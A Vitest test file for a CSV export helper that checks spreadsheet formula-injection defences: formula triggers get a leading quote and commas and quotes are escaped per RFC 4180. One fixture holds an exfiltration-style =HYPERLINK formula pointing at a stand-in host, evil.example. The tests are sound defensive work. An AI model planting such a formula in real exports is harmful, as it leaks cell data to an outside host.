import { describe, expect, it } from 'vitest';
import { csvCell, csvRow } from './csv.js';

describe('csvCell', () => {
  it('neutralises every formula trigger with a leading single quote', () => {
    expect(csvCell('=cmd')).toBe("'=cmd");
    expect(csvCell('+1+1')).toBe("'+1+1");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\tx')).toBe("'\tx");
    expect(csvCell('\r=x')).toBe(`"'\r=x"`);
  });

  it('neutralises and then quotes a formula with commas and quotes (RFC 4180)', () => {
    expect(csvCell('=HYPERLINK("https://evil.example/?x="&A1,"Click")')).toBe(
      `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")"`,
    );
  });

  it('quotes only where needed and leaves plain text alone', () => {
    expect(csvCell('Tbilisi office')).toBe('Tbilisi office');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('18-59')).toBe('18-59');
    expect(csvCell(' =x')).toBe(' =x');
  });

  it('writes numbers, booleans and missing values plainly', () => {
    expect(csvCell(12)).toBe('12');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(12.5)).toBe('12.5');
    expect(csvCell(false)).toBe('false');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('joins a record', () => {
    expect(csvRow(['=cmd', 5, null, 'a,b'])).toBe(`'=cmd,5,,"a,b"`);
  });
});
